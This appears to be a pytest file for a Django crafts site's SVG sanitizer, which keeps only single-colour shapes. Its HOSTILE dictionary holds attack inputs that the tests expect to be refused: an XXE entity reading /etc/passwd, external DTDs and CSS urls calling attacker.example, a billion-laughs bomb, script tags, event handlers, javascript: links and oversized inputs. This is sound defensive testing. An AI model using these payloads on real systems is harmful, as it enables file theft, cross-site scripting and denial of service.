"""A drawing that is sent: shapes of one colour come through, and nothing else."""

import pytest
from django.core.exceptions import ValidationError

from artisans.marks import cleaning
from artisans.marks.blow import Blow
from artisans.marks.cleaning import clean_drawing, shapes_of
from artisans.marks.drawing import drawn
from artisans.marks.house import HOUSE
from artisans.models import Technique
from artisans.tests.factories import TechniqueFactory

NS = 'xmlns="http://www.w3.org/2000/svg"'
SQUARE = '<path d="M20 20h50v50h-50z"/>'


def svg(inside: str, root: str = 'viewBox="0 0 96 96"') -> str:
    return f"<svg {NS} {root}>{inside}</svg>"


@pytest.mark.parametrize("shapes", [*HOUSE.values(), drawn(Blow())], ids=[*HOUSE, "blow"])
def test_marks_of_the_house_come_through(shapes):
    cleaned = clean_drawing(svg(shapes))
    assert cleaned == clean_drawing(cleaned)
    assert shapes_of(cleaned).count("<path") == shapes.count("<path")


def test_every_shape_and_its_paint_are_kept():
    inside = (
        '<g transform="rotate(10 48 48)" fill="none" stroke="currentColor">'
        '<circle cx="48" cy="48" r="20" stroke-width="4"/><ellipse cx="48" cy="48" rx="9" ry="4"/>'
        '<line x1="4" y1="4" x2="60" y2="60" stroke-linecap="round"/>'
        '<polyline points="4,40 40,4 60 50" stroke-linejoin="bevel"/></g>'
        '<rect x="10" y="10" width="20" height="9"/>'
        '<polygon points="4 4 40 4 40 30" fill-rule="evenodd"/>'
    )
    cleaned = clean_drawing(svg(inside))
    for tag in ("circle", "ellipse", "line", "polyline", "rect", "polygon", "g"):
        assert f"<{tag} " in cleaned
    assert cleaned == clean_drawing(cleaned)


@pytest.mark.parametrize(
    ("root", "path", "moved"),
    [
        ('viewBox="0 0 48 48"', "M10 10h25v25h-25z", "matrix(2 0 0 2 0 0)"),
        ('viewBox="-10 -10 960 960"', "M200 200h500v500h-500z", "matrix(0.1 0 0 0.1 1 1)"),
        ('viewBox="0 0 96 48"', "M20 10h50v30h-50z", "matrix(1 0 0 1 0 24)"),
        ('width="192px" height="192"', "M40 40h100v100h-100z", "matrix(0.5 0 0 0.5 0 0)"),
    ],
)
def test_any_field_is_brought_to_that_of_a_mark(root, path, moved):
    cleaned = clean_drawing(svg(f'<path d="{path}"/>', root))
    assert moved in cleaned
    assert cleaned.startswith(f'<svg {NS} viewBox="0 0 96 96">')


def test_any_colour_becomes_that_of_the_words():
    for colour in ("#000", "#8a4220", "black", "rgb(20, 30, 40)"):
        cleaned = clean_drawing(svg(f'<path d="M20 20h50v50h-50z" fill="{colour}"/>'))
        assert 'fill="currentColor"' in cleaned
        assert colour not in cleaned


def test_what_drawing_programs_say_to_themselves_is_dropped():
    inkscape = 'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"'
    sent = (
        f'<?xml version="1.0" encoding="UTF-8"?><!-- drawn -->\n<svg {NS} {inkscape} id="a" '
        'version="1.1" xml:space="preserve" viewBox="0 0 96 96"><title>Le signe</title><defs/>'
        '<inkscape:grid units="mm"/><metadata><a/></metadata>'
        f'<path inkscape:label="b" id="c" class="d" d="M20 20h50v50h-50z"/></svg>'
    )
    assert clean_drawing(sent.encode()) == svg(SQUARE)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE = {
    "external entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<svg {NS}><title>&x;</title>{SQUARE}</svg>",
    "external document type": '<!DOCTYPE svg SYSTEM "http://attacker.example/a.dtd">' + svg(SQUARE),
    "parameter entity": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/">%p;]>'
    + svg(SQUARE),
    "billion laughs": f'<!DOCTYPE svg [<!ENTITY l0 "lol">{LAUGHS}]>'
    + svg(f"<title>&l9;</title>{SQUARE}"),
    "unknown entity": svg(f"<title>&nbsp;</title>{SQUARE}"),
    "style sheet instruction": '<?xml-stylesheet href="http://attacker.example/"?>' + svg(SQUARE),
    "script": svg(f"<script>alert(1)</script>{SQUARE}"),
    "script of a prefix": f'<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script/>{SQUARE}</x:svg>',
    "script in a shape": svg('<path d="M20 20h50v50h-50z"><script>alert(1)</script></path>'),
    "script of another namespace": svg(
        f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>{SQUARE}'
    ),
    "handler of the root": svg(SQUARE, 'viewBox="0 0 96 96" onload="alert(1)"'),
    "handler of a shape": svg('<path d="M20 20h50v50h-50z" onclick="alert(1)"/>'),
    "handler in capitals": svg('<path d="M20 20h50v50h-50z" OnLoad="alert(1)"/>'),
    "link": svg(f'<a href="javascript:alert(1)">{SQUARE}</a>'),
    "old link": svg(
        f'<use xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://attacker.example/#a"/>{SQUARE}'
    ),
    "link on a shape": svg(
        '<path xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="#a" d="M20 20h50v50h-50z"/>'
    ),
    "address on a shape": svg('<path href="#a" d="M20 20h50v50h-50z"/>'),
    "style": svg('<path d="M20 20h50v50h-50z" style="fill:url(http://attacker.example/)"/>'),
    "style sheet": svg(f"<style>path{{fill:red}}</style>{SQUARE}"),
    "gradient": svg('<path d="M20 20h50v50h-50z" fill="url(#a)"/>'),
    "colour that is a call": svg('<path d="M20 20h50v50h-50z" fill="expression(alert(1))"/>'),
    "definitions": svg(f'<defs><path id="a" d="M0 0h9z"/></defs>{SQUARE}'),
    "foreign object": svg(f"<foreignObject><p>a</p></foreignObject>{SQUARE}"),
    "picture": svg(f'<image width="90" height="90" href="data:image/png;base64,AA=="/>{SQUARE}'),
    "animation": svg('<path d="M20 20h50v50h-50z"><animate attributeName="d"/></path>'),
    "set": svg(f'<set attributeName="onload" to="alert(1)"/>{SQUARE}'),
    "text": svg(f"<text>Kairouan</text>{SQUARE}"),
    "text between shapes": svg(f"<g>javascript:alert(1){SQUARE}</g>"),
    "filter": svg('<path d="M20 20h50v50h-50z" filter="url(#a)"/>'),
    "CDATA": svg(f"<title><![CDATA[<script>alert(1)</script>]]></title>{SQUARE}"),
    "no namespace": '<svg viewBox="0 0 96 96"><path d="M20 20h50v50h-50z"/></svg>',
    "another root": f'<html xmlns="http://www.w3.org/1999/xhtml">{SQUARE}</html>',
    "namespace with a space": svg(
        f'<a:path xmlns:a="http://www.w3.org/2000/svg x" d="M0 0h9z"/>{SQUARE}'
    ),
    "broken": f"<svg {NS}><path d='M20 20h50v50h-50z'></svg>",
    "two roots": svg(SQUARE) + svg(SQUARE),
    "attribute twice": svg('<path d="M20 20h50v50h-50z" d="M0 0h9z"/>'),
    "no XML": "GIF89a",
    "nothing": "",
    "a null": svg(SQUARE) + "\0",
    "UTF-16 said, UTF-8 sent": '<?xml version="1.0" encoding="UTF-16"?>' + svg(SQUARE),
    "unknown encoding": '<?xml version="1.0" encoding="x-kairouan"?>' + svg(SQUARE),
    "deep": svg("<g>" * 40 + SQUARE + "</g>" * 40),
    "deeper than a stack": svg("<g>" * 3_000 + SQUARE + "</g>" * 3_000),
    "many elements": svg('<path d="M2 2h9v9z"/>' * 200),
    "huge": svg(SQUARE + " " * 40_000),
    "long path": svg(f'<path d="M20 20h50v50h-50z{"l1 1" * 4_000}"/>'),
    "figure out of all proportion": svg('<path d="M0 0h1e300v9z"/>'),
    "no figure": svg('<path d="M0 0h NaN v9z"/>'),
    "endless figure": svg('<circle cx="48" cy="48" r="Infinity"/>'),
    "half a command": svg('<path d="M0 0 C 1 2 3"/>'),
    "words in a path": svg('<path d="M20 20h50v50h-50z url(a)"/>'),
    "call in a transform": svg('<path d="M20 20h50v50h-50z" transform="skewX(4) url(a)"/>'),
    "transform of too few": svg('<path d="M20 20h50v50h-50z" transform="matrix(1 0)"/>'),
    "no size": svg(SQUARE, 'viewBox="0 0 0 0"'),
    "a size that is none": svg(SQUARE, 'viewBox="0 0 a b"').replace("a b", "-4 -4"),
}


@pytest.mark.parametrize("sent", [*HOSTILE.values()], ids=[*HOSTILE])
def test_what_would_do_more_than_draw_is_refused(sent):
    for document in (sent, sent.encode()):
        with pytest.raises(ValidationError):
            clean_drawing(document)


@pytest.mark.parametrize(
    ("inside", "said"),
    [
        (f"<script/>{SQUARE}", "script"),
        ('<path d="M20 20h50v50h-50z" style="a"/>', "style"),
        ('<path d="M20 20h50v50h-50z" fill="white"/>', "une couleur"),
        ('<path d="M20 20h1v1z"/>', "vide"),
        ('<path d="M0 0h96v96h-96z"/>', "tache"),
        ("", "vide"),
    ],
)
def test_whoever_sends_it_is_told_why(inside, said):
    with pytest.raises(ValidationError, match=said):
        clean_drawing(svg(inside))


@pytest.mark.parametrize("limit", ["MOST_BYTES", "MOST_WRITTEN", "MOST_ELEMENTS", "MOST_DEPTH"])
def test_each_limit_is_one(monkeypatch, limit):
    drawing = svg(f"<g><g>{SQUARE}</g></g>")
    clean_drawing.cache_clear()
    assert clean_drawing(drawing)
    clean_drawing.cache_clear()
    monkeypatch.setattr(cleaning, limit, 1)
    with pytest.raises(ValidationError):
        clean_drawing(drawing)
    clean_drawing.cache_clear()


@pytest.mark.django_db
def test_whatever_wrote_the_column_a_page_holds_shapes_alone():
    technique = TechniqueFactory(drawing="sent", sent_drawing=svg(SQUARE))
    assert Technique.drawing_of(technique.mark) == SQUARE
    Technique.objects.update(
        sent_drawing=svg("<script>alert(1)</script>"), mark="s-0000000000000000"
    )
    assert Technique.drawing_of("s-0000000000000000") == ""
    assert Technique.drawing_of("s-1111111111111111") == ""
